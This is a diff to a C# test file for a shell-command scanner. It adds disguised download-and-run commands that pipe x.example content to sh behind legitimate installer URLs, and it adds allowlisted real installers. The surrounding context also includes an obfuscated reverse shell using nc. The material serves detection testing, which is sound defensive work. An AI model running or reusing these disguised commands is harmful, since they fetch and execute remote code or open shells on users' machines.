@@ -18,6 +18,11 @@ public sealed class ShellCommandTests
     [InlineData("code-download-and-run", Severity.Critical, "$'\\x63url' https://x.example/i \\\n | python3 -")]
     [InlineData("code-download-and-run", Severity.Critical, "sh -c 'curl https://x.example/i | sh'")]
     [InlineData("code-download-and-run", Severity.Critical, "bash <<EOF\ncurl https://x.example/i | sh\nEOF")]
+    [InlineData("code-download-and-run", Severity.Critical, "curl -LsSf x.example/i https://astral.sh/uv/install.sh | sh")]
+    [InlineData("code-download-and-run", Severity.Critical, "curl -LsSf x.example/i | sh # https://astral.sh/uv/install.sh")]
+    [InlineData("code-download-and-run", Severity.Critical, "sh -c \"$(curl -LsSf https://astral.sh/uv/install.sh x.example/i)\"")]
+    [InlineData("code-download-and-run", Severity.Critical, "curl -LsSf https://astral.sh/uv/install.sh | cat - /tmp/more | sh")]
+    [InlineData("code-download-and-run", Severity.Critical, "curl -LsSf http://astral.sh/uv/install.sh | sh")]
     [InlineData("code-download-and-run", Severity.High, "curl -o /tmp/a https://x.example/a\nchmod +x /tmp/a\n/tmp/a --go")]
     [InlineData("code-download-and-run", Severity.High, "wget https://x.example/dir/run.sh && bash run.sh")]
     [InlineData("code-reverse-shell", Severity.Critical, "n=/bin/n\nn+=c\nt=192.0.2.1\n$n $t 4000 -e /bin/s''h")]
@@ -64,6 +69,9 @@ public sealed class ShellCommandTests
     public void Harm_is_seen_through_its_disguise(string rule, Severity severity, string text) => CodeScan.Finds("x.sh", text + "\n", rule, severity);
 
     [Theory]
+    [InlineData("curl -LsSf https://astral.sh/uv/install.sh | sh")]
+    [InlineData("command -v cargo || curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y")]
+    [InlineData("/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"")]
     [InlineData("curl -fsSL https://api.example.com/v1/x | jq .name")]
     [InlineData("curl -o out.json https://api.example.com/x")]
     [InlineData("echo \"$TOKEN\" | base64 -d > key.json")]
